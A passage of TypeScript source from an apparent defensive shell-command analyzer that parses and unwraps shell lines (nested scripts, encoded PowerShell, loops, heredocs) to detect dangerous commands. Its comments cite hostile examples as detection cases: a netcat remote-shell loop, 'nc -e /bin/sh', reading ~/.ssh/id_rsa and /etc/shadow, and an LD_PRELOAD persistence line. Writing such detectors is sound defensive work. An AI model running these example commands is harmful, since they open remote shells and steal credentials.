import type { Node } from 'web-tree-sitter';
import type { CommandView, InlineScript, NormalizationStep, Origin, Redirect, SimpleCommand } from './types.js';
import { decodeEscapes } from './escapes.js';
import { MAX_DECODED, decodeBase64Utf16, decodeHex, percentDecoded, printf } from './decoders.js';
import { table } from '../knowledge/table.js';
import { INTERPRETERS, SHELLS, WRAPPERS, interpreterFamily, unwrap } from './wrappers.js';
import { awkCompared, deletedPaths, evaluatedCode, execStrings, loopedCommands, stringLiterals } from './inline-code.js';
import { environmentFilled, unmaskedCode } from './code-unmask.js';
import { sdkCalls } from './sdk-calls.js';
import { fallbackStatements } from './fallback.js';
import { expandBraces } from './braces.js';
import { plainLine, type PlainCommand } from './plain-line.js';
import { automationFile, broadDirectory, canonicalPath, classifyPath } from '../knowledge/paths.js';
import { isWordNode, listStatements, lastCommandNode, backgrounded, firstAnonType } from './tree.js';
import { asksForHelp, inlineBootScripts, kubectlInlineSpec, npxPackageCommand, FIND_FILTERS, gitAliasExpanded, gitConfig, gitSubcommandFirst, findSelection, lsSelection, editsWithTee, packageScripts, fanOutCommand, stdinScriptArgs, xargsApply, shellCommandString, firstOperand, optionValue, sshRemoteCommand, interpreterCode, awkProgram, appleScriptShell, platformRemoteCommand, remoteCopySources, commandOptionValues, commandVarValues, composeVerbAt, containerRun, containerRunCommand, containerVerbAt, imageCommand, readsManifestFromStdin, recipeLines, scriptIn, ssmParameterScript, typedText } from './command-args.js';
import { sedInsertions } from './sed-script.js';
import { staticOutput } from './static-output.js';
import { applyParamOp } from './param-ops.js';
import { arithmeticValue } from './arithmetic.js';
import { pbxShellLine } from './pbx-console.js';
import { containerCommands, jsonContainerCommands, containerSpecFile, fileCommands, dockerfileCommands, persistedLines, plistProgram, provisionCommands, terraformCommands } from './persisted-text.js';
import { withPositional } from './positional.js';
import { zshAsBash } from './zsh.js';
import { addsMcpServer } from '../knowledge/programs.js';
import { baseName, commandName, commandOfGlob, commandOfLookup, commandWithoutUnset, joinContinuations, unescapeWord } from './names.js';

/** Builtins whose NAME=VALUE operands set shell variables. */
const DECLARERS = new Set(['export', 'declare', 'typeset', 'local', 'readonly']);
/** Startup files of REPLs and editors, by name, and the language their code is in. */
const STARTUP_SCRIPTS = table<'python' | 'ruby' | 'psql' | 'vim'>({
  '.pythonrc': 'python', '.pythonrc.py': 'python', '.pythonstartup': 'python', '.irbrc': 'ruby', '.pryrc': 'ruby', '.psqlrc': 'psql', '.vimrc': 'vim', '.exrc': 'vim', '.gvimrc': 'vim', 'init.vim': 'vim',
  // and what pip, pytest, nox, Python itself, rake and bundler run from a project or an environment
  'setup.py': 'python', 'conftest.py': 'python', 'noxfile.py': 'python', 'sitecustomize.py': 'python', 'usercustomize.py': 'python', Rakefile: 'ruby', Gemfile: 'ruby',
  // and CocoaPods' and fastlane's, on every `pod install` and lane
  Podfile: 'ruby', Fastfile: 'ruby',
});
/** The file a GitHub Actions step names by variable whose lines set the environment of every later step. */
const CI_STEP_FILES = new Set(['$GITHUB_ENV', '${GITHUB_ENV}']);
/** The words echo prints, its options left out and expansions kept as written. */
function echoedAsWritten(argv: readonly string[]): string {
  let i = 1;
  while (i < argv.length && /^-[neE]{1,3}$/.test(argv[i]!)) i++;
  return argv.slice(i).join(' ') + '\n';
}
/** A file under a folder named by one variable (`$TF/setup.py`, `${WORK}/run.sh`): remembered by that name like the variable alone. */
const VARIABLE_PATH = /^\$(?:[A-Za-z_]\w{0,63}|\{[A-Za-z_]\w{0,63}\})(?:\/[\w.-]{1,64}){0,4}$/;
/** A value that is the path a lookup prints: `$(which python || which python3)`, `` `command -v gpg` ``, `"$(type -P 7z)"`. */
const LOOKED_UP = /^"?(?:\$\(|`)\s{0,8}(?:which|command\s{1,8}-v|type\s{1,8}-P)\s{1,8}([A-Za-z0-9_.+-]{1,64})(?:[\s)`|]|$)/;

/** Words that name the shell running the line (`$SHELL`, `$BASH`, `$0` and `${0#-}` of a login shell). */
const RUNNING_SHELL = /^\$(?:SHELL|BASH|0|\{(?:SHELL|BASH|0)(?:#-)?\})$/;
/** Lines longer than this are analyzed up to the bound; a finding says so. */
export const MAX_LINE = 64 * 1024;
/** Text parsed for one call across all nested layers. */
const MAX_PARSED = 2 * MAX_LINE;
/** Unwrapping layers (`bash -c` in `eval` in base64…) followed before giving up, with a finding. */
export const MAX_DEPTH = 8;
/** Simple commands collected from one line; beyond it the rest is not analyzed (and a finding says so). */
export const MAX_COMMANDS = 512;
/** Arguments kept per command; the rest are dropped (and a finding says so). */
export const MAX_ARGS = 512;
/** Syntax-tree depth followed; the walk is recursive, so this also bounds the stack. */
const MAX_NODE_DEPTH = 250;
/** A `for` loop over at most this many static items is followed item by item, up to this many body walks per line. */
const MAX_LOOP_ITEMS = 8;
const MAX_LOOP_WALKS = 32;
const MAX_LOOP_BODY = 2048;
/** Function bodies followed per call, and calls followed per line. */
const MAX_FUNCTION_BODY = 4096;
const MAX_INLINED_CALLS = 16;

const POWERSHELLS = new Set(['pwsh', 'powershell']);
/** PowerShell takes any unambiguous start of a parameter's name: -e, -ec, -enc … -encodedcommand. */
const ENCODED_COMMAND = ['e', 'ec', ...Array.from({ length: 13 }, (_, n) => 'encodedcommand'.slice(0, n + 2))];

export interface ParseTree {
  rootNode: Node;
  delete(): void;
}
export type ParseFn = (source: string) => ParseTree | undefined;

/**
 * Thrown by a host's ParseFn whose parser is not loaded yet. Nothing catches it inside the engine:
 * the analysis stops before anything is decided or remembered, and the host loads the parser and
 * analyzes the call again (runtime/engine.ts), which a pure engine makes safe.
 */
export class ParserNotLoaded extends Error {
  constructor() {
    super('the shell parser is needed for this line and is not loaded yet');
    this.name = 'ParserNotLoaded';
  }
}

/** Builtins that set the variables they name: `read x`, `declare x`, `getopts o x`. */
const SETTERS = new Set(['read', 'mapfile', 'readarray', 'getopts', 'local', 'declare', 'typeset', 'export', 'readonly', 'select']);

/** A variable spliced between the letters of a word: `dis${x}able`, `/dev/sd${z}a1` (the letter before it kept). */
const SPLICE = /([A-Za-z0-9._/-])\$\{?([a-z_][a-z0-9_]{0,15})\}?(?=[A-Za-z0-9])/g;

/** The string arguments of each `redis.call(…)` or `redis.pcall(…)` in a Lua script, the first 16. */
function luaRedisCalls(script: string): string[][] {
  const out: string[][] = [];
  const text = script.slice(0, 16384);
  for (let at = text.indexOf('redis.'); at >= 0 && out.length < 16; at = text.indexOf('redis.', at + 6)) {
    const open = text.indexOf('(', at);
    if (open < 0 || !/^redis\.p?call\s*$/.test(text.slice(at, open))) continue;
    const close = text.indexOf(')', open);
    const args = [...text.slice(open + 1, close < 0 ? open + 1024 : Math.min(close, open + 1024)).matchAll(/'([^']*)'|"([^"]*)"/g)].map((m) => m[1] ?? m[2]!);
    if (args.length) out.push(args.slice(0, 32));
  }
  return out;
}

/**
 * The names `find` or `ls` lists, as globs, where they say which files: a literal name (`-name id_rsa`), or
 * anything under a sensitive directory (`find ~/.ssh`). A broad pattern (`find . -name '*.php'`) is left out:
 * as a glob it would stand for every sensitive file that happens to share the extension.
 */
function listedNames(from: SimpleCommand): string[] | undefined {
  const names = from.name === 'find' ? findSelection(from) : from.name === 'ls' ? lsSelection(from) : undefined;
  if (names === undefined || from.name === 'ls') return names;
  const specific = (n: string) => { const cut = n.lastIndexOf('/'); const dir = n.slice(0, Math.max(cut, 0)); return !/[*?[]/.test(n.slice(cut + 1)) || (dir !== '' && !/[*?[]/.test(dir) && !broadDirectory(canonicalPath(dir)) && classifyPath(`${dir}/*`) !== undefined); };
  const kept = names.filter(specific);
  return kept.length ? kept : undefined;
}

const INSTALL_VERBS = new Set(['install', 'i', 'ci', 'add']);
/** The scripts an install runs from a package.json's text: preinstall, install, postinstall, prepare. */
function installScripts(manifest: string): string[] {
  if (manifest.length > 64 * 1024) return [];
  let parsed: unknown;
  try {
    parsed = JSON.parse(manifest);
  } catch {
    return [];
  }
  const scripts = typeof parsed === 'object' && parsed !== null ? (parsed as { scripts?: unknown }).scripts : undefined;
  if (typeof scripts !== 'object' || scripts === null) return [];
  return ['preinstall', 'install', 'postinstall', 'prepare'].map((k) => (scripts as Record<string, unknown>)[k]).filter((v): v is string => typeof v === 'string');
}

/** The command `script` runs: its -c value, or after BSD's typescript file the words that follow it. */
function typescriptCommand(argv: readonly string[]): string | undefined {
  const operands: string[] = [];
  for (let i = 1; i < argv.length && i < 64; i++) {
    const a = argv[i]!;
    if (a === '--command' || (/^-[a-zA-Z]*c$/.test(a) && !a.startsWith('--'))) return argv[i + 1];
    if (a.startsWith('--command=')) return a.slice(10);
    // (util-linux's valued options, and BSD's -F/-t take theirs too)
    if (/^-[a-zA-Z]*[EIOBTtFmo]$/.test(a) || /^--(?:log-\w+|echo|logging-format|output-limit)$/.test(a)) { i++; continue; }
    if (a.startsWith('-')) continue;
    operands.push(a);
    if (operands.length === 1) continue;
    return argv.slice(i).map((w) => (/^[\w./=:@%+-]+$/.test(w) ? w : `'${w.replace(/'/g, `'\\''`)}'`)).join(' ');
  }
  return undefined;
}

/** A loop's body runs the line its `read` put in `name`: `eval "$c"`, `sh -c "$c"`, or `$c` as a command of its own. */
function runsLineRead(body: string, name: string): boolean {
  const v = `"?\\$\\{?${name}\\}?"?`;
  return new RegExp(`(?:\\beval|\\b(?:ba|da|z)?sh[ \\t]{1,8}-c)[ \\t]{1,8}${v}|(?:\\bdo|;|&&|\\n)[ \\t]{0,8}${v}[ \\t]{0,8}(?:;|\\n|&|$)`).test(body);
}

/** What a file listing prints, as one glob: `find /var/log -name '*.log'` → /var/log/**\/*.log, `ls ~/.ssh` → its bare names, `*`. */
function listingNames(from: SimpleCommand): string | undefined {
  return from.name === 'find' ? findSelection(from)[0] : from.name === 'ls' ? lsSelection(from)?.[0] : undefined;
}

interface Ctx {
  origin: Origin;
  depth: number;
  redirects: Redirect[];
  pipeFrom?: SimpleCommand;
  background: boolean;
  /** Words the grammar hung on a redirection of the statement (`find / 2>/dev/null -exec …`): the command's own arguments. */
  afterRedirect?: Node[];
  /** A lone `-` before a heredoc, which the grammar drops (`kubectl apply -f - <<EOF`) and bash passes on. */
  dashBeforeHeredoc?: boolean;
}

interface Span {
  first?: SimpleCommand;
  last?: SimpleCommand;
}

const DYNAMIC_HOME = '~';

/**
 * Builds a CommandView: every simple command the line would run, with argv after quote removal
 * and static expansion, following nested scripts, decode-to-shell pipes and wrappers.
 */
export class ViewBuilder {
  readonly view: CommandView;
  private readonly env = new Map<string, string>();
  private readonly outputs = new WeakMap<SimpleCommand, string | null>();
  /** Files the line itself wrote with static content, so `echo … > x.sh; sh x.sh` is followed. */
  private readonly files = new Map<string, string>();
  /** Variables the line sets to values it cannot know: loop variables over computed lists, loop counters. */
  private readonly unknownVars = new Set<string>();
  /** Loop variables standing for what a listing prints, as a glob: still words the line cannot know. */
  private readonly listed = new Set<string>();
  private source = '';
  private nodeDepth = 0;
  private parsedBytes = 0;
  /** Set while following what an elevated command runs. */
  private runAsRoot = false;
  private cwd: string | undefined;
  private readonly aliasMap = new Map<string, string>();
  /** Functions whose whole body runs their arguments (`g(){ "$@"; }`): calling one runs what follows its name. */
  private readonly runners = new Set<string>();
  /** The line's positional parameters once `set --` gives them (`$1`… are also variables; `$@` needs them all). */
  private positional: string[] | undefined;
  /** Other functions' bodies, run with a call's arguments in place of `$1`…, `"$@"` (withPositional): `f(){ eval "$1"; }` evaluates it. */
  private readonly functionBodies = new Map<string, string>();
  /** Set while walking a function's body, where `$1` is an argument not yet known rather than empty. */
  private inFunction = 0;
  private readonly inlining = new Set<string>();
  private inlined = 0;
  private readonly arrays = new Map<string, string[]>();
  private expandingAlias = false;
  /** Body walks spent on `for` loops followed item by item (forEachItem), and whether one is under way. */
  private loopWalks = 0;
  private expandingLoop = false;
  /** Start offsets, in the script being walked, of words that are really the fd of a following redirection. */
  private fdWords = new Set<number>();

  constructor(
    private readonly parse: ParseFn,
    original: string,
    env: Record<string, string> = {},
    /** Lex plain lines directly instead of through tree-sitter (off only to prove the two agree). */
    private readonly plainFastPath = true,
  ) {
    this.view = {
      original,
      commands: [],
      scripts: [],
      steps: [],
      assignments: [],
      loops: 0,
      functions: [],
      aliases: [],
      parseErrors: 0,
      truncated: false,
      depthExceeded: false,
    };
    this.env.set('IFS', ' ');
    this.env.set('HOME', DYNAMIC_HOME);
    this.env.set('PATH', '/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin');
    for (const [k, v] of Object.entries(env)) this.env.set(k, v);
  }

  /** The line as a shell would run it now. */
  build(): CommandView {
    this.script(this.bounded(), 'line', 0);
    return this.view;
  }

  /**
   * The text as written into a place that runs it later (a unit file, a crontab, a JSON task file):
   * what it will run, read as when a shell command writes it there.
   */
  buildPersisted(): CommandView {
    this.persisted(this.bounded(), 0);
    return this.view;
  }

  /** The text as written into a Dockerfile, a manifest or a compose file: what its containers will run. */
  buildContainerSpec(path: string): CommandView {
    this.containerRuns(path, this.bounded(), 0);
    return this.view;
  }

  private bounded(): string {
    const text = this.view.original;
    if (text.length <= MAX_LINE) return text;
    this.view.truncated = true;
    return text.slice(0, MAX_LINE);
  }

  private step(kind: NormalizationStep['kind'], detail: string): void {
    if (this.view.steps.length < 200) this.view.steps.push({ kind, detail: clip(detail) });
  }

  /** Parse and walk one script layer. */
  private script(text: string, origin: Origin, depth: number, pipeFrom?: SimpleCommand): Span {
    const src = joinContinuations(text);
    if (depth > MAX_DEPTH) {
      this.view.depthExceeded = true;
      return {};
    }
    // nested layers re-parse their text: bound the total, not just each layer
    if (this.parsedBytes + src.length > MAX_PARSED) {
      this.view.truncated = true;
      return {};
    }
    this.parsedBytes += src.length;
    const plain = this.plainFastPath ? plainLine(src) : undefined;
    if (plain) return this.plainCommands(plain, { origin, depth, redirects: [], background: false, pipeFrom });
    const tree = this.parse(src);
    if (!tree) {
      this.view.parseErrors++;
      return this.fallback(src, { origin, depth, redirects: [], background: false, pipeFrom });
    }
    // offsets belong to one source text: a nested script gets its own set
    const [savedSource, savedFdWords] = [this.source, this.fdWords];
    this.source = src;
    this.fdWords = new Set();
    try {
      const ctx: Ctx = { origin, depth, redirects: [], background: false };
      // what the script is fed is its first statement's input (the walk of a whole program feeds no statement)
      const [first, ...rest] = tree.rootNode.namedChildren;
      if (!pipeFrom || !first || tree.rootNode.type !== 'program' || first.type === 'comment') return this.walk(tree.rootNode, { ...ctx, pipeFrom });
      const head = this.walk(first, { ...ctx, pipeFrom });
      const tail = this.sequence(rest, ctx);
      return { first: head.first ?? tail.first, last: tail.last ?? head.last };
    } finally {
      this.source = savedSource;
      this.fdWords = savedFdWords;
      tree.delete();
    }
  }

  private plainCommands(cmds: PlainCommand[], ctx: Ctx): Span {
    const span: Span = {};
    let prev: SimpleCommand | undefined;
    for (const p of cmds) {
      const redirects = p.redirects.map((r) => ({ op: r.op, fd: r.fd, target: r.target, dynamic: false }));
      // (the first command reads what the script itself is fed: a function's body its call's input)
      const cmd = this.emit(p.argv, p.argv.map(() => false), [], { ...ctx, redirects, pipeFrom: p.piped ? prev : span.first ? undefined : ctx.pipeFrom }, undefined, p.text);
      if (!cmd) break;
      span.first ??= cmd;
      span.last = cmd;
      prev = cmd;
    }
    return span;
  }

  private walk(node: Node, ctx: Ctx): Span {
    if (this.view.commands.length >= MAX_COMMANDS) {
      this.view.truncated = true;
      return {};
    }
    // syntax nested deeper than any real command (`$($($(…)))` × 1000) is not followed further
    if (this.nodeDepth >= MAX_NODE_DEPTH) {
      this.view.depthExceeded = true;
      return {};
    }
    this.nodeDepth++;
    try {
      return this.walkNode(node, ctx);
    } finally {
      this.nodeDepth--;
    }
  }

  private walkNode(node: Node, ctx: Ctx): Span {
    switch (node.type) {
      case 'command':
        return this.command(node, ctx);
      case 'redirected_statement':
        return this.redirected(node, ctx);
      case 'pipeline':
        return this.pipeline(node.namedChildren, ctx);
      case 'list': {
        const { items, background, cut } = listStatements(node, MAX_COMMANDS);
        if (cut) this.view.truncated = true;
        return this.sequence(items, ctx, background);
      }
      case 'variable_assignment':
      case 'variable_assignments': {
        const all = node.type === 'variable_assignment' ? [node] : node.namedChildren.filter((c) => c.type === 'variable_assignment');
        const set = all.map((c) => this.assign(c, ctx)).filter((a) => a !== undefined);
        // a bare `LD_PRELOAD=/tmp/x.so` written to /etc/environment or an rc file is set for every login:
        // the persisted text gets it as an assignment statement, so the file's analysis sees what it sets
        if (ctx.origin !== 'persisted' || set.length === 0) return {};
        const cmd = this.emit([':'], [false], set, ctx, node);
        return { first: cmd, last: cmd };
      }
      case 'declaration_command':
      case 'unset_command':
        return this.declaration(node, ctx);
      case 'function_definition': {
        const name = node.childForFieldName('name');
        if (name) this.view.functions.push(name.text);
        const body = node.childForFieldName('body')?.text ?? '';
        if (name && this.runners.size < 16 && /^[{(]\s*(?:exec\s+|command\s+)?"?\$[@*]"?\s*;?\s*[})]$/.test(body.slice(0, 64))) this.runners.add(name.text);
        else if (name && this.functionBodies.size < 16 && body.length <= MAX_FUNCTION_BODY) this.functionBodies.set(name.text, body.slice(1, -1));
        this.inFunction++;
        try {
          return this.sequence(node.namedChildren.filter((c) => c.type !== 'word'), ctx);
        } finally {
          this.inFunction--;
        }
      }
      case 'for_statement': {
        this.view.loops++;
        const each = this.forEachItem(node, { ...ctx, pipeFrom: undefined });
        if (each) return each;
        return this.sequence(node.namedChildren, { ...ctx, pipeFrom: undefined });
      }
      case 'while_statement': {
        this.view.loops++;
        // a listing piped into `while read f`: the variable stands for what it names, as for a loop over `$(find …)`
        const read = ctx.pipeFrom && /^read(?:\s+-[a-zA-Z]{1,4})*\s+([A-Za-z_]\w{0,31})\s*;?$/.exec(node.childForFieldName('condition')?.text.slice(0, 96) ?? '');
        const names = read ? listingNames(ctx.pipeFrom!) : undefined;
        // each line read run as a command (`nc host 4444 | while read c; do eval "$c"; done`): a shell reading what feeds the loop
        if (read && runsLineRead(node.text.slice(0, 2048), read[1]!)) this.emit(['sh'], [false], [], ctx, undefined, `${ctx.pipeFrom!.name} | while read ${read[1]}; … "$${read[1]}"`);
        const walkAll = () => this.sequence(node.namedChildren, { ...ctx, pipeFrom: undefined });
        return names && read ? this.bound(read[1]!, names, walkAll) : walkAll();
      }
      case 'c_style_for_statement':
        this.view.loops++;
        // (a counter the header sets: `for ((i=0; …))`)
        if (node.type === 'c_style_for_statement') for (const m of node.text.slice(0, 256).matchAll(/([A-Za-z_]\w{0,31})\s*=/g)) this.unknownVars.add(m[1]!);
        return this.sequence(node.namedChildren, { ...ctx, pipeFrom: undefined });
      case 'ERROR':
        this.view.parseErrors++;
        return this.fallback(this.source.slice(node.startIndex, node.endIndex), ctx);
      case 'comment':
      case 'heredoc_body':
      case 'heredoc_start':
      case 'heredoc_end':
        return {};
      default: {
        // Compound statements and tests: walk children; only substitutions inside words run.
        if (isWordNode(node.type)) {
          this.fields(node, ctx);
          return {};
        }
        return this.sequence(node.namedChildren, { ...ctx, pipeFrom: undefined }, backgrounded(node));
      }
    }
  }

  /** Statements in order; one followed by `&` runs in the background (from `backgrounded()`). */
  private sequence(nodes: Node[], ctx: Ctx, background?: ReadonlySet<number>): Span {
    const span: Span = {};
    for (const n of nodes) {
      if (this.view.commands.length >= MAX_COMMANDS) {
        this.view.truncated = true;
        break;
      }
      const s = this.walk(n, { ...ctx, background: ctx.background || !!background?.has(n.startIndex) });
      span.first ??= s.first;
      if (s.last) span.last = s.last;
    }
    return span;
  }

  /** `trailing`: redirections tree-sitter hung on the whole pipeline that bash binds to its last stage. */
  private pipeline(stages: Node[], ctx: Ctx, trailing: Redirect[] = []): Span {
    const span: Span = {};
    let prev = ctx.pipeFrom;
    for (let i = 0; i < stages.length; i++) {
      const stage = stages[i]!;
      const last = i === stages.length - 1 && trailing.length > 0;
      const s = last ? this.withTrailingRedirects(stage, { ...ctx, pipeFrom: prev }, trailing) : this.walk(stage, { ...ctx, pipeFrom: prev });
      span.first ??= s.first;
      if (s.last) {
        if (prev && s.first && s.first !== prev) prev.pipeTo ??= s.first;
        prev = s.last;
        span.last = s.last;
      }
    }
    return span;
  }

  private redirected(node: Node, ctx: Ctx): Span {
    const redirects: Redirect[] = [];
    const continuations: Node[] = [];
    const body = node.childForFieldName('body');
    const afterRedirect: Node[] = [];
    const redirectNodes = node.childrenForFieldName('redirect');
    for (const r of redirectNodes) {
      if (!r) continue;
      afterRedirect.push(...this.wordsAfterDestination(r));
      const made = this.redirect(r, ctx);
      // the grammar reads `cmd 0</p` as an argument `0` and a bare `<`; bash reads an fd redirect
      const glued = lastCommandNode(body)?.lastNamedChild ?? null;
      if (glued && glued.type === 'number' && glued.endIndex === r.startIndex && /^\d$/.test(glued.text) && made[0] && made[0].fd === undefined) {
        made[0].fd = Number(glued.text);
        this.fdWords.add(glued.startIndex);
      }
      redirects.push(...made);
      // tree-sitter nests `| sh` after a heredoc inside the heredoc_redirect node
      if (r.type === 'heredoc_redirect') {
        for (const c of r.namedChildren) {
          if (c.type === 'pipeline' || c.type === 'list' || c.type === 'command' || c.type === 'redirected_statement') continuations.push(c);
        }
      }
    }
    const first = redirectNodes[0];
    const dashBeforeHeredoc = body?.type === 'command' && first?.type === 'heredoc_redirect' && this.source.slice(body.endIndex, first.startIndex).trim() === '-';
    const bodyCtx = afterRedirect.length && body?.type === 'command' ? { ...ctx, afterRedirect } : ctx;
    // a redirection with no command (`> /var/log/auth.log`) runs the null command `:`: it truncates or creates the file
    const span = body ? this.withTrailingRedirects(body, dashBeforeHeredoc ? { ...bodyCtx, dashBeforeHeredoc } : bodyCtx, redirects) : this.nullCommand(node, ctx, redirects);
    for (const c of continuations) {
      const op = firstAnonType(c);
      const isPipe = op === '|' || op === '|&';
      const s = c.type === 'pipeline' ? this.pipeline(c.namedChildren, { ...ctx, pipeFrom: span.last }) : this.walk(c, { ...ctx, pipeFrom: isPipe ? span.last : undefined });
      if (s.last) span.last = s.last;
    }
    return span;
  }

  private nullCommand(node: Node, ctx: Ctx, redirects: Redirect[]): Span {
    // `$(< file)` is bash's shorthand for `$(cat file)`
    const only = redirects.length === 1 ? redirects[0]! : undefined;
    if (ctx.origin === 'substitution' && only?.op === '<' && !only.dynamic) {
      this.step('unwrap', `$(< ${only.target}) reads ${only.target}`);
      const cmd = this.emit(['cat', only.target], [false, false], [], ctx, node);
      return { first: cmd, last: cmd };
    }
    const cmd = this.emit([':'], [false], [], { ...ctx, redirects: [...ctx.redirects, ...redirects] }, node);
    return { first: cmd, last: cmd };
  }

  /**
   * `for f in ~/.ssh/id_rsa /etc/shadow; do cat $f; done`: with a few static items the body is walked
   * once per item, the variable set to it, so `cat $f` is seen reading each file. Undefined (walk it
   * once, the variable unknown) for a dynamic or long list, a long body, or a loop inside another.
   */
  private forEachItem(node: Node, ctx: Ctx): Span | undefined {
    const variable = node.childForFieldName('variable');
    // walked with its items unknown, or once, the variable holds a value the line cannot know
    if (variable) this.unknownVars.add(variable.text);
    const body = node.childForFieldName('body');
    const values = node.childrenForFieldName('value').filter((v): v is Node => v !== null);
    // a body holding another loop, a long body, a loop inside an expanded one and a spent budget are
    // walked once, the variable unknown: nested loops would multiply the walks
    if (!variable || !body || values.length === 0 || values.length > MAX_LOOP_ITEMS || this.expandingLoop || this.loopWalks >= MAX_LOOP_WALKS || body.endIndex - body.startIndex > MAX_LOOP_BODY) return undefined;
    if (/\b(?:for|while|until|select)\b/.test(this.source.slice(body.startIndex, body.endIndex))) return undefined;
    const before = this.view.commands.length;
    const items = values.flatMap((v) => this.fields(v, ctx));
    if (items.length === 0 || items.length > MAX_LOOP_ITEMS || items.some((f) => f.dynamic)) {
      // the items were expanded (their substitutions run) once already: walk the body once, the variable standing
      // for what a listing substitution names (`for f in $(find /var/log -name '*.log')` → /var/log/**/*.log)
      const listing = values.length === 1 ? this.view.commands[this.view.commands.length - 1] : undefined;
      const names = listing && this.view.commands.length > before ? listingNames(listing) : undefined;
      return names ? this.bound(variable.text, names, () => this.walk(body, ctx)) : this.walk(body, ctx);
    }
    // loops one after another share one budget of walks
    if (this.loopWalks + items.length > MAX_LOOP_WALKS) return this.walk(body, ctx);
    this.loopWalks += items.length;
    const span: Span = {};
    this.expandingLoop = true;
    try {
      for (const item of items) {
        const s = this.bound(variable.text, item.text, () => this.walk(body, ctx), false);
        span.first ??= s.first;
        span.last = s.last ?? span.last;
      }
    } finally {
      this.expandingLoop = false;
    }
    return span;
  }

  /**
   * Walks with a loop variable set for the walk alone: to one of the loop's items, or (`listing`) to a glob of the
   * files a listing prints (`/var/log/**\/*.log`), which stays a word the line cannot know.
   */
  private bound(name: string, value: string, walk: () => Span, listing = true): Span {
    const saved = this.env.get(name);
    this.env.set(name, value);
    if (listing) this.listed.add(name);
    try {
      return walk();
    } finally {
      this.listed.delete(name);
      if (saved === undefined) this.env.delete(name);
      else this.env.set(name, saved);
    }
  }

  /**
   * tree-sitter scopes `a && b > f` as `(a && b) > f`; bash binds the redirect to `b` alone.
   * Compound bodies (`{ …; } > f`, subshells) really do redirect every command inside.
   */
  private withTrailingRedirects(body: Node, ctx: Ctx, redirects: Redirect[]): Span {
    if (body.type === 'pipeline') return this.pipeline(body.namedChildren, ctx, redirects);
    if (body.type !== 'list') return this.walk(body, { ...ctx, redirects: [...ctx.redirects, ...redirects] });
    const { items: parts, background, cut } = listStatements(body, MAX_COMMANDS);
    if (cut) {
      // the command the redirect binds to lies past the bound
      this.view.truncated = true;
      return this.sequence(parts, ctx, background);
    }
    const head = this.sequence(parts.slice(0, -1), ctx, background);
    const last = parts[parts.length - 1];
    const tail = last ? this.withTrailingRedirects(last, ctx, redirects) : {};
    return { first: head.first ?? tail.first, last: tail.last ?? head.last };
  }

  private redirect(r: Node, ctx: Ctx): Redirect[] {
    const fdNode = r.childForFieldName('descriptor');
    const fd = fdNode ? Number(fdNode.text) : undefined;
    const opNode = r.children.find((c) => c && !c.isNamed);
    const op = opNode?.text ?? '';
    if (r.type === 'heredoc_redirect') {
      const body = r.namedChildren.find((c) => c.type === 'heredoc_body');
      const start = r.namedChildren.find((c) => c.type === 'heredoc_start');
      const quoted = !!start && /['"\\]/.test(start.text);
      let text = body ? body.text : '';
      let dynamic = false;
      if (body && !quoted && body.namedChildren.length) {
        // unquoted heredocs expand $vars and $(…); resolve what is static
        const parts = this.pieces(body, ctx, true);
        text = parts.map((p) => p.text).join('');
        dynamic = parts.some((p) => p.dynamic);
      } else if (!quoted) {
        // and take the backslash off `\$`, `\``, `\\` and a line's end even when nothing in them expands
        text = text.replace(/\\([$`\\]|\n)/g, (_, c: string) => (c === '\n' ? '' : c));
      }
      // redirections after the heredoc's start are nested in its node (`cat <<'EOF' >> ~/.bashrc`); bash applies them after it
      const after = r.namedChildren.filter((c) => c.type === 'file_redirect' || c.type === 'herestring_redirect').flatMap((c) => this.redirect(c, ctx));
      return [{ op: '<<', fd, target: text, dynamic }, ...after];
    }
    if (r.type === 'herestring_redirect') {
      const w = r.namedChildren[r.namedChildren.length - 1];
      const f = w ? this.fields(w, ctx) : [];
      return [{ op: '<<<', fd, target: f.map((x) => x.text).join(' ') + '\n', dynamic: f.some((x) => x.dynamic) }];
    }
    const dest = r.childForFieldName('destination') ?? r.namedChildren[r.namedChildren.length - 1];
    const f = dest && dest !== fdNode ? this.fields(dest, ctx) : [];
    let target = f.map((x) => x.text).join(' ');
    let dynamic = f.some((x) => x.dynamic);
    // the grammar ends `$d/$h/$p` after the second `$` and glues the rest on as the next piece (`h/$p`):
    // to bash it is one word, the glued piece's leading name the variable that `$` starts
    let end = dest?.endIndex ?? -1;
    for (const c of r.namedChildren) {
      if (!dest || c.startIndex < end || c === dest) continue;
      if (c.startIndex !== end || !target.endsWith('$')) break;
      const name = /^(?:\d|[A-Za-z_][A-Za-z0-9_]*)/.exec(c.text)?.[0];
      if (!name) break;
      const value = /^\d$/.test(name) ? (this.inFunction > 0 ? undefined : '') : this.env.get(name);
      target = target.slice(0, -1) + (value ?? '$' + name) + this.fields(c, ctx).map((x) => x.text).join('').slice(name.length);
      dynamic ||= value === undefined;
      end = c.endIndex;
    }
    // `<>` is missing from the grammar and shows up as an ERROR inside the redirect
    const realOp = r.namedChildren.some((c) => c.type === 'ERROR') && /<>/.test(r.text) ? '<>' : op;
    // after another redirection, the grammar splits a here-string into an ERROR `<<` and a `<` redirection
    // (`cat >> ~/.zshrc <<< '…'`): bash reads it as the here-string it is
    const prev = r.previousSibling;
    if (op === '<' && prev?.type === 'ERROR' && prev.text === '<<' && prev.endIndex === r.startIndex) return [{ op: '<<<', fd, target: target + '\n', dynamic }];
    return [{ op: realOp, fd, target, dynamic }];
  }

  /**
   * `read -r c <<< 'curl …'` and `read -a x <<< "nc … -e /bin/sh"` set their variables from a known here-string:
   * the first line split on IFS, the last name taking the rest. From a pipe, read runs in a subshell
   * and sets nothing the line can use.
   */
  private readInto(cmd: SimpleCommand): void {
    if (cmd.pipeFrom || cmd.stdin === undefined) return;
    const names: string[] = [];
    let array: string | undefined;
    for (let i = 1; i < cmd.argv.length; i++) {
      const w = cmd.argv[i]!;
      if (w === '-a') array = cmd.argv[++i];
      else if (/^-[dinNptu]$/.test(w)) i++;
      else if (!w.startsWith('-') && /^[A-Za-z_][A-Za-z0-9_]*$/.test(w)) names.push(w);
    }
    const line = (cmd.stdin.split('\n')[0] ?? '').slice(0, 4096);
    // an IFS given to read alone splits its line (`IFS=, read -r a b c <<< 'x,y,z'`)
    const ifs = cmd.assignments.find((a) => a.name === 'IFS');
    const outer = this.env.get('IFS');
    if (ifs) this.env.set('IFS', ifs.value);
    const words = this.splitFields(line).filter(Boolean);
    if (ifs) { if (outer === undefined) this.env.delete('IFS'); else this.env.set('IFS', outer); }
    if (array !== undefined && /^[A-Za-z_][A-Za-z0-9_]*$/.test(array)) {
      if (this.arrays.size < 64) this.arrays.set(array, words);
